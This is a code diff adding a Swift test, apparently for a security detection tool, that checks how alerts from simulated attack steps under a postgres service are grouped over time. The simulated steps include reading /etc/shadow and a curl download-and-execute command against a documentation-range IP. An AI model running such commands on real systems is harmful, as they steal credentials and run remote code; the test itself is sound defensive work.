@@ -446,6 +446,29 @@ import Testing
         #expect(try groups([asked[0]] + late) == [1, 2])
     }
 
+    /// What one step raises at once does not say when the next one may come.
+    @Test func theAlertsOfOneStepMakeNoPace() throws {
+        var world = World(numbers: false)
+        let service = world.run("postgres", in: database)
+        func step(_ line: String, _ rule: World.Rule, at second: Double) -> [AlertValues] {
+            let shell = world.start("sh -c \(line)", below: world.start("postgres", below: service))
+            let tool = world.start(line, below: shell)
+            return [
+                world.alert(.shell, shell, at: second),
+                world.alert(rule, tool, at: second + 0.002, file: "/etc/shadow"),
+                world.alert(.keys, tool, at: second + 0.004),
+            ]
+        }
+        let first = step("cat /etc/shadow", .secret, at: 0)
+        let download = "curl -s -o /var/tmp/x http://203.0.113.5/x; chmod +x /var/tmp/x; /var/tmp/x"
+        #expect(try groups(first + step(download, .secret, at: 490)) == [1, 1, 1, 1, 1, 1])
+        // Steps that came every few seconds do say so.
+        let quick = (1...8).flatMap { step("cat /etc/f\(Self.letter($0))", .secret, at: Double($0) * 4) }
+        #expect(Set(try groups(first + quick + step(download, .secret, at: 9000))).count == 2)
+    }
+
+    private static func letter(_ index: Int) -> Character { Character(UnicodeScalar(96 + UInt8(index))) }
+
     /// Who enters the container is not the service: the session is another one.
     @Test func whoEntersAContainerIsNotItsService() throws {
         var world = World()
